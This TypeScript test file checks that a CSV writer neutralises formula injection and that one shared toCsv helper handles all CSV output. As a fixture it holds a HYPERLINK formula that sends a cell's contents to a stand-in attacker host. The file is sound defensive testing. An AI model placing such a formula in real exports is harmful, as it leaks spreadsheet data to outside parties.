import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, toCsv } from './csv.js';

const FORMULA_START = ['=', '+', '-', '@', '\t', '\r'];

describe('CSV cells (issue 14 §10, OWASP CSV injection)', () => {
  it('when a text cell starts with a formula character, then a single quote goes before it and the rest is kept', () => {
    expect(neutraliseCell('=HYPERLINK("http://evil.example/?x="&B3,"Open")')).toBe(
      `'=HYPERLINK("http://evil.example/?x="&B3,"Open")`,
    );
    expect(neutraliseCell('+44 1234')).toBe("'+44 1234");
    expect(neutraliseCell('-1+1')).toBe("'-1+1");
    expect(neutraliseCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(neutraliseCell('\t=1+1')).toBe("'\t=1+1");
    expect(neutraliseCell('\r=1+1')).toBe("'\r=1+1");
  });

  it('when a text cell starts otherwise, then it is unchanged', () => {
    for (const v of ['Outsider, Olly', '2026-11-06', '12.50', '', ' =1+1', "O'Brien", 'a=b', 'Stress'])
      expect(neutraliseCell(v), v).toBe(v);
  });

  it('when numbers are written as numbers, then negative ones stay numbers; text that looks negative is neutralised', () => {
    expect(toCsv([[-1.5, 0, 312, '-1.5', null, undefined]])).toBe("-1.5,0,312,'-1.5,,\n");
  });

  it('when the family name is a formula, then the CSV cell read back is the text with a quote before it', () => {
    const name = '=HYPERLINK("http://evil.example/?x="&B3,"Open")';
    const csv = toCsv([
      ['name', 'score'],
      [`${name}, Riley`, 64],
    ]);
    expect(parse(csv)).toEqual([
      ['name', 'score'],
      [`'${name}, Riley`, '64'],
    ]);
  });

  it('when a cell holds a semicolon, then it is quoted, so a semicolon-separated reading cannot split off a formula', () => {
    expect(toCsv([['Smith;=1+1', 'x']])).toBe('"Smith;=1+1",x\n');
  });

  it('when any text is written, then no cell read back starts with a formula character and the text is kept after the quote', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.array(
            fc.oneof(
              fc.string(),
              fc.constantFrom(...FORMULA_START).map((c) => `${c}1+1`),
            ),
          ),
          {
            minLength: 1,
            maxLength: 5,
          },
        ),
        (rows) => {
          const nonEmpty = rows.filter((r) => r.length > 0);
          fc.pre(nonEmpty.length > 0);
          const back = parse(toCsv(nonEmpty), { relax_column_count: true }) as string[][];
          back.flat().forEach((cell, i) => {
            expect(FORMULA_START.includes(cell[0] ?? '')).toBe(false);
            const original = nonEmpty.flat()[i]!;
            expect(cell === original || cell === `'${original}`).toBe(true);
          });
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('one CSV writer', () => {
  const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');
  const sources = (dir: string): string[] =>
    fs.readdirSync(path.join(root, dir), { withFileTypes: true }).flatMap((e) => {
      const rel = path.join(dir, e.name);
      if (e.isDirectory()) return sources(rel);
      return e.name.endsWith('.ts') && !e.name.endsWith('.test.ts') ? [rel] : [];
    });
  const files = [...sources('src'), ...sources('bench')].map((rel) => ({
    rel,
    text: fs.readFileSync(path.join(root, rel), 'utf8'),
  }));

  it('when the source is read, then only src/shared/csv.ts imports a CSV writer library', () => {
    const writers = files.filter((f) => /from ['"](csv-stringify|csv-writer|papaparse|fast-csv)/.test(f.text));
    expect(writers.map((f) => f.rel)).toEqual([path.join('src', 'shared', 'csv.ts')]);
  });

  it('when a file sends text/csv or names a .csv file, then it writes CSV with toCsv, never by hand', () => {
    const csvWriters = files.filter(
      (f) => f.rel !== path.join('src', 'shared', 'csv.ts') && /text\/csv|\.csv\b/.test(f.text),
    );
    expect(csvWriters.length).toBeGreaterThanOrEqual(3);
    for (const f of csvWriters)
      expect(f.text, f.rel).toMatch(/import \{[^}]*\btoCsv\b[^}]*\} from '[./]*shared\/csv\.js'/);
  });
});
